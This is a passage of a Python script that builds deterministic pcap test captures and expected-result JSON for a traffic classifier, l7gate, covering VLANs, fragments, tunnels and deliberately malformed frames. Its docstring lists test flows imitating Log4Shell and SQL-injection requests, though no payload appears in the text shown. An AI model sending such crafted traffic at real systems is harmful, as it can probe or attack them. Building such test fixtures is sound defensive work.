#!/usr/bin/python3
"""Deterministic test traffic for l7gate.

    /usr/bin/python3 tools/gen_traffic.py OUTDIR [--set bridge|malformed|flows|l7|all]

Every run writes the same bytes: fixed seeds, fixed timestamps (from 1700000000.0 in small
steps), explicit MAC/IP addresses everywhere (scapy never resolves anything from the host).
Addresses are only from 198.18.0.0/15 and 2001:db8::/32.

Sets:
  bridge     bridge-p0.pcap (port 0, client->server), bridge-p1.pcap (port 1, server->client),
             bridge-expect.json (frames, bytes, distinct flows per file and in total, per-frame
             flow ids, non-IP and fragment counts)
  malformed  malformed-p0.pcap + malformed-expect.json (reason name of every malformed frame,
             indices of the valid frames, counts per reason)
  flows      flows-p0.pcap (2000 distinct one-packet UDP flows) + flows-expect.json
  l7         l7.pcap: both directions of 17 flows with known application-layer content in one
             file, in time order (replayed into one port, packets reach nDPI in the order
             ndpiReader sees them): TLS 1.2 with a certificate chain, TLS 1.3, TLS with a
             YouTube SNI, TLS without SNI, HTTP (plain, numeric-IP Host, Log4Shell
             User-Agent, .exe download, SQL injection in the URL, over IPv6), TLS over IPv6,
             SSH on 22 and on 2222, DNS, BitTorrent, QUIC v1 Initial (RFC 9001 protection,
             SNI www.google.com), ICMP echo. Full TCP handshakes, consistent seq/ack, FIN
             teardown, server answers. l7-expect.json: a list with one object per flow: l4,
             ip_version, src_ip/src_port (the first sender), dst_ip/dst_port, vlan, l7_proto,
             category, risks, host (null: none expected), packets and bytes (whole frames and
             IP) per direction, first/last frame index and timestamp. l7_proto, category,
             risks and host are what ndpiReader 4.2 reports for l7.pcap (checked by
             tests/integration/test_classify.py). Needs python3-cryptography (QUIC packet
             protection, X.509); `--set all` skips l7 with a warning when it is missing.

Expectations are computed here, from the frames as built, by an independent reference parser
(flow_of below), never from l7gate's output.
"""

import argparse
import json
import logging
import os
import random
import struct
import sys
from decimal import Decimal

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)

from scapy.all import (  # noqa: E402
    ARP,
    DNS,
    DNSQR,
    DNSRR,
    GRE,
    ICMP,
    IP,
    TCP,
    UDP,
    Dot1Q,
    Ether,
    ICMPv6EchoReply,
    ICMPv6EchoRequest,
    IPOption_Router_Alert,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    Padding,
    Raw,
    RouterAlert,
    wrpcap,
)
from scapy.data import DLT_EN10MB  # noqa: E402
from scapy.layers.l2 import Dot1AD  # noqa: E402

BASE_TIME = Decimal("1700000000")
STEP = Decimal("0.0001")  # 100 us between consecutive frames

# Locally administered MACs: clients on the LAN side (port 0), the router on the WAN side.
ROUTER_MAC = "02:00:00:00:ff:01"
SWITCH0_MAC = "02:00:00:00:fe:00"
SWITCH1_MAC = "02:00:00:00:fe:01"


def client_mac(i):
    return "02:00:00:00:00:%02x" % (i + 1)


# ---------------------------------------------------------------------------------------------
# pcap writing


def write_pcap(path, frames, start=BASE_TIME, step=STEP):
    """Writes frames (bytes, or (time, bytes) tuples) with fixed timestamps."""
    pkts = []
    for i, f in enumerate(frames):
        if isinstance(f, tuple):
            t, data = f
        else:
            t, data = start + i * step, f
        p = Raw(load=bytes(data))
        p.time = t
        pkts.append(p)
    wrpcap(path, pkts, linktype=DLT_EN10MB)


def write_json(path, obj):
    with open(path, "w") as f:
        json.dump(obj, f, indent=1, sort_keys=True)
        f.write("\n")


# ---------------------------------------------------------------------------------------------
# Reference flow classification (independent of l7gate's C++ parser)

IPV6_EXT = (0, 43, 44, 51, 60)


def _ip6(b):
    return "[" + b.hex() + "]"


def flow_of(frame, frag_first):
    """Returns the canonical flow key string of a valid frame, or None for non-IP frames.

    Key = IP version, protocol, the two (address, port) endpoints sorted, VLAN ids. ICMP and
    protocols other than TCP/UDP have ports 0. A non-first fragment takes the key of its
    datagram's first fragment (frag_first maps a datagram id to that key, filled as the first
    fragments go by).
    """
    off = 12
    (et,) = struct.unpack_from("!H", frame, off)
    vlans = []
    while et in (0x8100, 0x88A8, 0x9100):
        vlans.append(struct.unpack_from("!H", frame, off + 2)[0] & 0x0FFF)
        off += 4
        (et,) = struct.unpack_from("!H", frame, off)
    off += 2
    if et == 0x0800:
        ihl = (frame[off] & 0x0F) * 4
        proto = frame[off + 9]
        src, dst = frame[off + 12:off + 16], frame[off + 16:off + 20]
        (ipid, fr) = struct.unpack_from("!HH", frame, off + 4)
        foff, more = (fr & 0x1FFF) * 8, bool(fr & 0x2000)
        fragmented, first = (more or foff != 0), foff == 0
        dgram = ("v4", src, dst, proto, ipid, tuple(vlans))
        l4 = off + ihl
        ver, sa, da = 4, src.hex(), dst.hex()
    elif et == 0x86DD:
        nh = frame[off + 6]
        src, dst = frame[off + 8:off + 24], frame[off + 24:off + 40]
        pos = off + 40
        fragmented, first, dgram = False, True, None
        while nh in IPV6_EXT:
            if nh == 44:
                (fo, ident) = struct.unpack_from("!HI", frame, pos + 2)
                fragmented, first = True, (fo & 0xFFF8) == 0
                dgram = ("v6", src, dst, ident, tuple(vlans))
                hlen = 8
            elif nh == 51:
                hlen = (frame[pos + 1] + 2) * 4
            else:
                hlen = (frame[pos + 1] + 1) * 8
            nh = frame[pos]
            pos += hlen
        proto, l4 = nh, pos
        ver, sa, da = 6, _ip6(src), _ip6(dst)
    else:
        return None
    if fragmented and not first:
        return frag_first[dgram]
    sport = dport = 0
    if proto in (6, 17):
        sport, dport = struct.unpack_from("!HH", frame, l4)
    a, b = sorted([(sa, sport), (da, dport)])
    key = "v%d p%d %s:%d %s:%d vlan%s" % (ver, proto, a[0], a[1], b[0], b[1],
                                          "/".join(str(v) for v in vlans) or "-")
    if fragmented:
        frag_first[dgram] = key
    return key


# ---------------------------------------------------------------------------------------------
# Conversation builders. Each returns a list of (side, scapy packet): side 0 = client->server
# (arrives on port 0), side 1 = server->client (arrives on port 1).


class Endpoints:
    """L2 + L3 of one client/server pair, optionally behind VLAN tags (outer first)."""

    def __init__(self, cmac, smac, cip, sip, vlans=(), qinq=False):
        self.cmac, self.smac, self.cip, self.sip = cmac, smac, cip, sip
        self.vlans, self.qinq = list(vlans), qinq
        self.v6 = ":" in cip

    def _l2(self, side):
        src, dst = (self.cmac, self.smac) if side == 0 else (self.smac, self.cmac)
        p = Ether(src=src, dst=dst)
        for i, vid in enumerate(self.vlans):
            p = p / (Dot1AD(vlan=vid) if (self.qinq and i == 0) else Dot1Q(vlan=vid))
        return p

    def ip(self, side, **kw):
        src, dst = (self.cip, self.sip) if side == 0 else (self.sip, self.cip)
        if self.v6:
            return self._l2(side) / IPv6(src=src, dst=dst, hlim=64, **kw)
        return self._l2(side) / IP(src=src, dst=dst, ttl=64, **kw)


def tcp_http(ep, cport, rng, host, path, requests=1, sport=80):
    """3-way handshake, `requests` GET/response exchanges, FIN/ACK teardown."""
    out = []
    cseq, sseq = rng.randrange(1 << 32), rng.randrange(1 << 32)
    ipid = [rng.randrange(1 << 16), rng.randrange(1 << 16)]

    def seg(side, flags, seq, ack, payload=b""):
        kw = {} if ep.v6 else {"id": ipid[side]}
        if not ep.v6:
            ipid[side] = (ipid[side] + 1) & 0xFFFF
        sp, dp = (cport, sport) if side == 0 else (sport, cport)
        p = ep.ip(side, **kw) / TCP(sport=sp, dport=dp, flags=flags, seq=seq & 0xFFFFFFFF,
                                    ack=ack & 0xFFFFFFFF, window=64240)
        if payload:
            p = p / Raw(load=payload)
        out.append((side, p))

    seg(0, "S", cseq, 0)
    seg(1, "SA", sseq, cseq + 1)
    cseq += 1
    sseq += 1
    seg(0, "A", cseq, sseq)
    for r in range(requests):
        req = ("GET %s%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: l7gate-test/1.0\r\n"
               "Accept: */*\r\n\r\n" % (path, "" if r == 0 else "?page=%d" % r, host)).encode()
        seg(0, "PA", cseq, sseq, req)
        cseq += len(req)
        seg(1, "A", sseq, cseq)
        body = ("<html><body>%s %d %s</body></html>\n" % (host, r, "x" * rng.randrange(20, 400)))
        resp = ("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n"
                "Server: test\r\n\r\n%s" % (len(body), body)).encode()
        seg(1, "PA", sseq, cseq, resp)
        sseq += len(resp)
        seg(0, "A", cseq, sseq)
    seg(0, "FA", cseq, sseq)
    cseq += 1
    seg(1, "FA", sseq, cseq)
    sseq += 1
    seg(0, "A", cseq, sseq)
    return out


def udp_dns(ep, cport, rng, name, queries=1):
    out = []
    for q in range(queries):
        qid = rng.randrange(1 << 16)
        qname = name if q == 0 else "www%d.%s" % (q, name)
        kw = {} if ep.v6 else {"id": rng.randrange(1 << 16)}
        qtype = "AAAA" if ep.v6 else "A"
        rdata = "2001:db8:53::%x" % rng.randrange(1, 0xFFFF) if ep.v6 else \
            "198.19.%d.%d" % (rng.randrange(256), rng.randrange(1, 255))
        out.append((0, ep.ip(0, **kw) / UDP(sport=cport, dport=53) /
                    DNS(id=qid, rd=1, qd=DNSQR(qname=qname, qtype=qtype))))
        kw = {} if ep.v6 else {"id": rng.randrange(1 << 16)}
        out.append((1, ep.ip(1, **kw) / UDP(sport=53, dport=cport) /
                    DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=qname, qtype=qtype),
                        an=DNSRR(rrname=qname, type=qtype, ttl=300, rdata=rdata))))
    return out


def icmp_echo(ep, rng, ident, count):
    out = []
    payload = bytes(rng.randrange(256) for _ in range(48))
    for seq in range(1, count + 1):
        if ep.v6:
            out.append((0, ep.ip(0) / ICMPv6EchoRequest(id=ident, seq=seq, data=payload)))
            out.append((1, ep.ip(1) / ICMPv6EchoReply(id=ident, seq=seq, data=payload)))
        else:
            out.append((0, ep.ip(0, id=rng.randrange(1 << 16)) /
                        ICMP(type=8, id=ident, seq=seq) / Raw(load=payload)))
            out.append((1, ep.ip(1, id=rng.randrange(1 << 16)) /
                        ICMP(type=0, id=ident, seq=seq) / Raw(load=payload)))
    return out


def ipv4_options_udp(ep, cport, rng, count):
    """UDP exchange whose IPv4 headers carry a Router Alert option (IHL 6)."""
    out = []
    for i in range(count):
        for side in (0, 1):
            sp, dp = (cport, 6010) if side == 0 else (6010, cport)
            p = ep.ip(side, id=rng.randrange(1 << 16), options=[IPOption_Router_Alert()]) / \
                UDP(sport=sp, dport=dp) / Raw(load=b"opt-%d-%d" % (i, side) * 4)
            out.append((side, p))
    return out


def ipv6_ext_udp(ep, cport, count):
    """UDP exchange behind hop-by-hop (router alert) + destination-options headers."""
    out = []
    for i in range(count):
        for side in (0, 1):
            sp, dp = (cport, 6000) if side == 0 else (6000, cport)
            p = ep.ip(side) / IPv6ExtHdrHopByHop(options=[RouterAlert()]) / \
                IPv6ExtHdrDestOpt() / UDP(sport=sp, dport=dp) / Raw(load=b"ext6-%d-%d" % (i, side) * 3)
            out.append((side, p))
    return out


def fragmented_udp(ep, side, cport, sport, ident, payload, chunk):
    """One UDP datagram split into in-order fragments of `chunk` bytes (multiple of 8)."""
    sp, dp = (cport, sport) if side == 0 else (sport, cport)
    src, dst = (ep.cip, ep.sip) if side == 0 else (ep.sip, ep.cip)
    if ep.v6:
        udp = bytes(IPv6(src=src, dst=dst) / UDP(sport=sp, dport=dp) / Raw(load=payload))[40:]
    else:
        udp = bytes(IP(src=src, dst=dst) / UDP(sport=sp, dport=dp) / Raw(load=payload))[20:]
    out = []
    for off in range(0, len(udp), chunk):
        part = udp[off:off + chunk]
        more = off + chunk < len(udp)
        if ep.v6:
            p = ep.ip(side, nh=44) / IPv6ExtHdrFragment(nh=17, offset=off // 8, m=int(more),
                                                        id=ident) / Raw(load=part)
        else:
            p = ep.ip(side, id=ident, proto=17, flags="MF" if more else 0,
                      frag=off // 8) / Raw(load=part)
        out.append((side, p))
    return out


def gre_packets(ep, rng, count):
    """GRE (IP protocol 47) carrying one inner UDP flow in both directions: l7gate looks into
    GRE (README "Tunnels"), so the inner flow is the one flow of this conversation."""
    out = []
    for i in range(count):
        for side in (0, 1):
            a, b = ("198.18.200.1", 1000), ("198.18.201.1", 2000)
            (s_ip, s_port), (d_ip, d_port) = (a, b) if side == 0 else (b, a)
            inner = IP(src=s_ip, dst=d_ip) / UDP(sport=s_port, dport=d_port) / Raw(load=b"gre-inner")
            out.append((side, ep.ip(side, id=rng.randrange(1 << 16)) / GRE(proto=0x0800) / inner))
    return out


def arp_exchange(cmac, cip, target_ip):
    req = Ether(src=cmac, dst="ff:ff:ff:ff:ff:ff") / ARP(
        op=1, hwsrc=cmac, psrc=cip, hwdst="00:00:00:00:00:00", pdst=target_ip)
    rep = Ether(src=ROUTER_MAC, dst=cmac) / ARP(
        op=2, hwsrc=ROUTER_MAC, psrc=target_ip, hwdst=cmac, pdst=cip)
    return [(0, req), (1, rep)]


def lldp_frame(src_mac, port_name):
    """LLDP (EtherType 0x88cc): chassis id, port id, TTL, system name, end TLVs."""
    def tlv(t, value):
        return struct.pack("!H", (t << 9) | len(value)) + value

    mac = bytes(int(x, 16) for x in src_mac.split(":"))
    body = (tlv(1, b"\x04" + mac) + tlv(2, b"\x05" + port_name.encode()) +
            tlv(3, struct.pack("!H", 120)) + tlv(5, b"test-switch") + tlv(0, b""))
    return Ether(src=src_mac, dst="01:80:c2:00:00:0e", type=0x88CC) / Raw(load=body)


def interleave(convs, rng):
    """Merges conversations into one timeline, keeping each conversation's own order."""
    queues = [list(c) for c in convs if c]
    out = []
    while queues:
        i = rng.randrange(len(queues))
        out.append(queues[i].pop(0))
        if not queues[i]:
            queues.pop(i)
    return out


# ---------------------------------------------------------------------------------------------
# Sets


def gen_bridge(outdir):
    rng = random.Random(0xB41D6E)
    convs = []
    v4 = lambda i, sip, **kw: Endpoints(client_mac(i), ROUTER_MAC, "198.18.0.%d" % (10 + i), sip, **kw)  # noqa: E731
    v6 = lambda i, sip, **kw: Endpoints(client_mac(i), ROUTER_MAC, "2001:db8:1::%x" % (0x10 + i), sip, **kw)  # noqa: E731

    # IPv4 HTTP over TCP, untagged.
    for i in range(12):
        ep = v4(i % 6, "198.19.%d.%d" % (1 + i % 3, 80 + i))
        convs.append(tcp_http(ep, 40000 + i * 7, rng, "site%d.example" % i, "/index%d.html" % i,
                              requests=1 + i % 3))
    # IPv6 HTTP over TCP.
    for i in range(4):
        ep = v6(i, "2001:db8:2::%x" % (0x80 + i))
        convs.append(tcp_http(ep, 41000 + i, rng, "v6site%d.example" % i, "/", requests=1 + i % 2))
    # 802.1Q tagged HTTP flows (VLAN 100 and 200).
    for i in range(4):
        vid = 100 if i < 2 else 200
        ep = v4(6 + i, "198.19.10.%d" % (1 + i), vlans=[vid])
        convs.append(tcp_http(ep, 42000 + i, rng, "vlan%d.example" % vid, "/v%d" % i))
    # QinQ: 0x88a8 outer (S-tag 300) + 0x8100 inner (C-tag 42).
    ep = v4(10, "198.19.11.1", vlans=[300, 42], qinq=True)
    convs.append(tcp_http(ep, 43000, rng, "qinq.example", "/qinq", requests=2))
    ep = v6(10, "2001:db8:2::300", vlans=[300, 43], qinq=True)
    convs.append(udp_dns(ep, 43001, rng, "qinq6.example", queries=2))
    # DNS over UDP, IPv4 and IPv6.
    for i in range(10):
        ep = v4(i % 6, "198.19.0.53")
        convs.append(udp_dns(ep, 50000 + i * 11, rng, "host%d.example" % i, queries=1 + i % 2))
    for i in range(4):
        ep = v6(i, "2001:db8:2::53")
        convs.append(udp_dns(ep, 51000 + i, rng, "v6host%d.example" % i))
    # The very same 5-tuple untagged and on VLAN 100: two distinct flows.
    convs.append(udp_dns(v4(11, "198.19.0.54"), 52000, rng, "same.example"))
    convs.append(udp_dns(v4(11, "198.19.0.54", vlans=[100]), 52000, rng, "same.example"))
    # ICMP echo (two identifiers towards one host: still one flow, ICMP has no ports).
    convs.append(icmp_echo(v4(0, "198.19.1.1"), rng, 0x1234, 4))
    convs.append(icmp_echo(v4(0, "198.19.1.1"), rng, 0x1235, 2))
    convs.append(icmp_echo(v4(1, "198.19.1.2", vlans=[200]), rng, 7, 3))
    convs.append(icmp_echo(v6(1, "2001:db8:2::1"), rng, 0x77, 3))
    # IPv4 with options, IPv6 with hop-by-hop + destination options.
    convs.append(ipv4_options_udp(v4(2, "198.19.20.1"), 44000, rng, 3))
    convs.append(ipv6_ext_udp(v6(2, "2001:db8:2::20"), 44001, 3))
    # Fragmented datagrams: IPv4 client->server (3 fragments) with a short reply, IPv6
    # server->client (3 fragments) answering a small query.
    ep = v4(3, "198.19.30.1")
    frag4 = fragmented_udp(ep, 0, 45000, 6020, 0x4242, bytes(range(256)) * 4 + b"tail", 400)
    reply4 = [(1, ep.ip(1, id=0x5151) / UDP(sport=6020, dport=45000) / Raw(load=b"ok"))]
    convs.append(frag4 + reply4)
    ep = v6(3, "2001:db8:2::30")
    query6 = [(0, ep.ip(0) / UDP(sport=45001, dport=6021) / Raw(load=b"send-big"))]
    frag6 = fragmented_udp(ep, 1, 45001, 6021, 0xA1B2C3D4, bytes(range(255, -1, -1)) * 4, 400)
    convs.append(query6 + frag6)
    # Another IP protocol: GRE.
    convs.append(gre_packets(v4(4, "198.19.40.1"), rng, 3))

    timeline = interleave(convs, rng)
    # ARP first (as on a real wire), LLDP from the switches on both sides, more ARP midway.
    timeline = (arp_exchange(client_mac(0), "198.18.0.10", "198.18.0.1") +
                [(0, lldp_frame(SWITCH0_MAC, "ge-0/0/1")), (1, lldp_frame(SWITCH1_MAC, "ge-0/0/2"))] +
                timeline[:len(timeline) // 2] +
                arp_exchange(client_mac(5), "198.18.0.15", "198.18.0.1") +
                timeline[len(timeline) // 2:] +
                [(0, lldp_frame(SWITCH0_MAC, "ge-0/0/1")), (1, lldp_frame(SWITCH1_MAC, "ge-0/0/2"))])

    files = {0: [], 1: []}
    for n, (side, pkt) in enumerate(timeline):
        files[side].append((BASE_TIME + n * STEP, bytes(pkt)))

    frag_first = {}
    flow_ids = {}
    expect = {"files": {}, "flows": []}
    for side in (0, 1):
        name = "bridge-p%d.pcap" % side
        write_pcap(os.path.join(outdir, name), files[side])
        frame_flows, keys = [], set()
        stats = {"arp": 0, "lldp": 0, "fragments": 0, "non_first_fragments": 0}
        for _, data in files[side]:
            et = struct.unpack_from("!H", data, 12)[0]
            if et == 0x0806:
                stats["arp"] += 1
            elif et == 0x88CC:
                stats["lldp"] += 1
            key = flow_of(data, frag_first)
            if key is not None and key not in flow_ids:
                flow_ids[key] = len(flow_ids)
                expect["flows"].append(key)
            frame_flows.append(None if key is None else flow_ids[key])
            if key is not None:
                keys.add(key)
        stats["fragments"], stats["non_first_fragments"] = _count_fragments(files[side])
        expect["files"][name] = dict(
            stats,
            frames=len(files[side]),
            bytes=sum(len(d) for _, d in files[side]),
            flows=len(keys),
            non_ip=stats["arp"] + stats["lldp"],
            frame_flows=frame_flows,
        )
    expect["total_flows"] = len(flow_ids)
    write_json(os.path.join(outdir, "bridge-expect.json"), expect)


def _count_fragments(frames):
    total = non_first = 0
    for _, d in frames:
        p = Ether(d)
        if IP in p and (p[IP].flags.MF or p[IP].frag):
            total += 1
            non_first += p[IP].frag != 0
        elif IPv6ExtHdrFragment in p:
            total += 1
            non_first += p[IPv6ExtHdrFragment].offset != 0
    return total, non_first


def _patch(data, off, fmt, *values):
    b = bytearray(data)
    struct.pack_into(fmt, b, off, *values)
    return bytes(b)


def gen_malformed(outdir):
    rng = random.Random(0xBAD)
    cm, sm = client_mac(20), ROUTER_MAC
    eth4 = bytes(Ether(src=cm, dst=sm, type=0x0800))
    eth6 = bytes(Ether(src=cm, dst=sm, type=0x86DD))
    a4, b4 = "198.18.66.1", "198.19.66.1"
    a6, b6 = "2001:db8:66::1", "2001:db8:66::2"

    def ip4(l4, **kw):
        return bytes(Ether(src=cm, dst=sm) / IP(src=a4, dst=b4, id=rng.randrange(1 << 16), **kw) / l4)

    def ip6(l4, **kw):
        return bytes(Ether(src=cm, dst=sm) / IPv6(src=a6, dst=b6, **kw) / l4)

    udp_pl = UDP(sport=33333, dport=9999) / Raw(load=b"payload-bytes-0123456789")
    base4 = ip4(udp_pl)  # Ether(14) + IPv4(20) + UDP(8) + 24
    base6 = ip6(udp_pl)

    bad = []  # (reason, description, frame)
    bad.append(("l2_truncated", "10-byte frame", bytes(range(10))))
    bad.append(("l2_truncated", "802.1Q tag cut short (16 bytes)",
                bytes(Ether(src=cm, dst=sm, type=0x8100)) + b"\x00\x64"))
    bad.append(("vlan_too_deep", "three stacked VLAN tags",
                bytes(Ether(src=cm, dst=sm) / Dot1AD(vlan=10) / Dot1Q(vlan=20) / Dot1Q(vlan=30) /
                      IP(src=a4, dst=b4) / udp_pl)))
    bad.append(("ipv4_truncated", "EtherType IPv4 with 10 bytes of IP", eth4 + base4[14:24]))
    bad.append(("ipv4_bad_version", "EtherType IPv4 carrying an IPv6 header (version 6)",
                eth4 + base6[14:]))
    bad.append(("ipv4_bad_ihl", "IHL 4", _patch(base4, 14, "!B", 0x44)))
    bad.append(("ipv4_bad_ihl", "IHL 15 with 40 bytes of IP", _patch(base4[:54], 14, "!BBH", 0x4F, 0, 40)))
    bad.append(("ipv4_bad_length", "total length 1000 beyond the frame", _patch(base4, 16, "!H", 1000)))
    bad.append(("ipv4_bad_length", "total length 16 below IHL*4", _patch(base4, 16, "!H", 16)))
    bad.append(("ipv6_truncated", "EtherType IPv6 with 20 bytes of IP", eth6 + base6[14:34]))
    bad.append(("ipv6_bad_version", "EtherType IPv6 with version 4", _patch(base6, 14, "!B", 0x40)))
    bad.append(("ipv6_bad_length", "payload length 1000 beyond the frame", _patch(base6, 18, "!H", 1000)))
    # Hop-by-hop header claiming 88 bytes (hdr ext len 10) inside an 8-byte payload.
    hbh = bytes([17, 10, 1, 4, 0, 0, 0, 0])
    bad.append(("ipv6_ext_truncated", "hop-by-hop header longer than the packet",
                bytes(Ether(src=cm, dst=sm) / IPv6(src=a6, dst=b6, nh=0, plen=8) / Raw(load=hbh))))
    chain9 = IPv6ExtHdrDestOpt()
    for _ in range(8):
        chain9 = chain9 / IPv6ExtHdrDestOpt()
    bad.append(("ipv6_ext_too_long", "nine destination-options headers before UDP",
                ip6(chain9 / udp_pl)))
    bad.append(("tcp_truncated", "proto 6 with 10 bytes of IP payload",
                ip4(Raw(load=bytes(TCP(sport=1234, dport=80))[:10]), proto=6)))
    bad.append(("tcp_bad_offset", "TCP data offset 4",
                ip4(TCP(sport=1234, dport=80, dataofs=4, flags="S", seq=1))))
    bad.append(("tcp_bad_offset", "TCP data offset 15 in a 20-byte segment",
                ip4(TCP(sport=1234, dport=80, dataofs=15, flags="S", seq=1))))
    bad.append(("udp_truncated", "4 bytes of UDP", ip4(Raw(load=b"\x82\x35\x00\x35"), proto=17)))
    bad.append(("udp_bad_length", "UDP length 4", ip4(UDP(sport=33333, dport=53, len=4) / Raw(load=b"abcd"))))
    bad.append(("udp_bad_length", "UDP length 200 beyond the IP payload",
                ip4(UDP(sport=33333, dport=53, len=200) / Raw(load=b"abcdefgh"))))
    bad.append(("icmp_truncated", "ICMP with 2 bytes", ip4(Raw(load=b"\x08\x00"), proto=1)))
    bad.append(("ipv4_bad_fragment", "fragment at offset 65528 carrying 64 bytes (ends past 65535)",
                ip4(Raw(load=b"G" * 64), proto=17, frag=0x1FFF)))
    bad.append(("frag_no_first", "IPv4 fragment at offset 800 of a datagram never started",
                ip4(Raw(load=b"F" * 64), proto=17, frag=100, flags="MF")))

    # Valid frames: a TCP flow, ARP, an IPv4 frame with Ethernet padding (total length below
    # the frame length), and IPv6 with exactly 8 extension headers (the parser limit).
    ep = Endpoints(client_mac(21), ROUTER_MAC, "198.18.67.1", "198.19.67.1")
    good = [("tcp flow: " + pkt.sprintf("%TCP.flags%"), bytes(pkt))
            for _, pkt in tcp_http(ep, 46000, rng, "ok.example", "/ok")]
    good.insert(2, ("ARP request", bytes(arp_exchange(client_mac(21), "198.18.67.1", "198.18.67.254")[0][1])))
    padded = Ether(src=client_mac(21), dst=ROUTER_MAC) / IP(src="198.18.67.1", dst="198.19.67.1", id=7) / \
        TCP(sport=46001, dport=443, flags="S", seq=1000) / Padding(load=b"\x00" * 6)
    padded = Ether(bytes(padded))
    assert len(padded) == 60 and padded[IP].len == 40, (len(padded), padded[IP].len)
    good.insert(5, ("IPv4 SYN padded to 60 bytes (total length 40)", bytes(padded)))
    chain8 = IPv6ExtHdrDestOpt()
    for _ in range(7):
        chain8 = chain8 / IPv6ExtHdrDestOpt()
    good.insert(8, ("IPv6 with 8 destination-options headers before UDP", ip6(chain8 / udp_pl)))

    # Interleave: the valid frames keep their order, malformed ones slot in between.
    frames = []
    gi = 0
    for i, (reason, desc, data) in enumerate(bad):
        if i % 2 == 0 and gi < len(good):
            frames.append((None, good[gi][0], good[gi][1]))
            gi += 1
        frames.append((reason, desc, data))
    for desc, data in good[gi:]:
        frames.append((None, desc, data))

    write_pcap(os.path.join(outdir, "malformed-p0.pcap"), [f[2] for f in frames])
    counts = {}
    for reason, _, _ in frames:
        if reason:
            counts[reason] = counts.get(reason, 0) + 1
    expect = {
        "file": "malformed-p0.pcap",
        "frames": [{"index": i, "reason": r, "desc": d, "len": len(f)} for i, (r, d, f) in enumerate(frames)],
        "counts": counts,
        "malformed_total": sum(counts.values()),
        "valid_indices": [i for i, f in enumerate(frames) if f[0] is None],
        "valid_flows": len({flow_of(f[2], {}) for f in frames if f[0] is None} - {None}),
        "non_ip": sum(1 for f in frames if f[0] is None and struct.unpack_from("!H", f[2], 12)[0] == 0x0806),
    }
    write_json(os.path.join(outdir, "malformed-expect.json"), expect)


def gen_flows(outdir, n=2000):
    frames = []
    for i in range(n):
        src = "198.18.%d.%d" % (100 + i // 250, 1 + i % 250)
        p = Ether(src=client_mac(i % 200), dst=ROUTER_MAC) / \
            IP(src=src, dst="198.19.100.1", id=i & 0xFFFF) / \
            UDP(sport=10000 + i, dport=5000) / Raw(load=struct.pack("!I", i) + b"flow-table")
        frames.append(bytes(p))
    write_pcap(os.path.join(outdir, "flows-p0.pcap"), frames, step=Decimal("0.00001"))
    keys = {flow_of(f, {}) for f in frames}
    write_json(os.path.join(outdir, "flows-expect.json"),
               {"file": "flows-p0.pcap", "frames": len(frames), "flows": len(keys)})


# ---------------------------------------------------------------------------------------------
# l7: one capture, both directions in time order, flows with known application-layer content.
# Every expectation in l7-expect.json was checked against ndpiReader 4.2 (libndpi-bin) on the
# generated capture: tests/integration/test_classify.py re-checks that on every run.

L7_SALT_V1 = bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a")  # RFC 9001 5.2


def _rb(rng, n):
    return rng.randbytes(n)


class TcpConv:
    """One TCP connection built segment by segment with consistent seq/ack numbers.

    side 0 = client (sends the SYN), side 1 = server. Messages larger than the peer's MSS are
    split; the last segment of a message carries PSH. The receiver of a message ACKs every
    second segment and, unless told otherwise, the end of the message.
    """

    def __init__(self, ep, cport, sport, rng, mss=(1460, 1460)):
        self.ep, self.rng = ep, rng
        self.ports = (cport, sport)
        self.mss = mss  # MSS announced by the client, by the server
        self.seq = [rng.randrange(1 << 32), rng.randrange(1 << 32)]
        self.ack = [0, 0]
        self.ipid = [rng.randrange(1 << 16), rng.randrange(1 << 16)]
        self.win = (64240, 65160)
        self.out = []

    def seg(self, side, flags, payload=b"", options=None):
        kw = {}
        if not self.ep.v6:
            kw["id"] = self.ipid[side]
            kw["flags"] = "DF"
            self.ipid[side] = (self.ipid[side] + 1) & 0xFFFF
        sp, dp = self.ports if side == 0 else self.ports[::-1]
        tcp = TCP(sport=sp, dport=dp, flags=flags, seq=self.seq[side] & 0xFFFFFFFF,
                  ack=(self.ack[side] & 0xFFFFFFFF) if "A" in flags else 0,
                  window=self.win[side], options=options or [])
        p = self.ep.ip(side, **kw) / tcp
        if payload:
            p = p / Raw(load=payload)
        self.out.append((side, p))
        self.seq[side] += len(payload) + (1 if ("S" in flags or "F" in flags) else 0)
        self.ack[1 - side] = self.seq[side]

    def handshake(self):
        self.seg(0, "S", options=[("MSS", self.mss[0]), ("SAckOK", b""), ("WScale", 7)])
        self.seg(1, "SA", options=[("MSS", self.mss[1]), ("SAckOK", b""), ("WScale", 7)])
        self.seg(0, "A")
        return self

    def send(self, side, data, ack=True):
        mss = self.mss[1 - side]  # what the receiver announced
        chunks = [data[i:i + mss] for i in range(0, len(data), mss)] or [b""]
        for i, c in enumerate(chunks):
            last = i == len(chunks) - 1
            self.seg(side, "PA" if last else "A", c)
            if (i % 2 == 1 and not last) or (last and ack):
                self.seg(1 - side, "A")
        return self

    def close(self, first=0):
        self.seg(first, "FA")
        self.seg(1 - first, "FA")
        self.seg(first, "A")
        return self.out


# -- TLS ----------------------------------------------------------------------------------------

def tls_record(ctype, body, version=0x0303):
    return struct.pack("!BHH", ctype, version, len(body)) + body


def tls_hs(msg_type, body):
    return bytes([msg_type]) + len(body).to_bytes(3, "big") + body


def tls_ext(etype, data):
    return struct.pack("!HH", etype, len(data)) + data


def _u16list(values, lenbytes=2):
    body = b"".join(struct.pack("!H", v) for v in values)
    return len(body).to_bytes(lenbytes, "big") + body


def tls_client_hello(rng, sni, alpn=(b"h2", b"http/1.1"), tls13=True, quic_params=None):
    """A browser-like ClientHello handshake message (no record header)."""
    if quic_params is not None:
        ciphers = [0x1301, 0x1302, 0x1303]
        sid = b""
    else:
        ciphers = ([0x1301, 0x1303, 0x1302] if tls13 else []) + \
            [0xC02B, 0xC02F, 0xCCA9, 0xCCA8, 0xC02C, 0xC030, 0xC013, 0xC014, 0x009C, 0x009D,
             0x002F, 0x0035]
        sid = _rb(rng, 32)
    exts = []
    if sni:
        name = sni.encode()
        exts.append(tls_ext(0, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name))
    exts.append(tls_ext(23, b""))                      # extended_master_secret
    if quic_params is None:
        exts.append(tls_ext(65281, b"\x00"))           # renegotiation_info
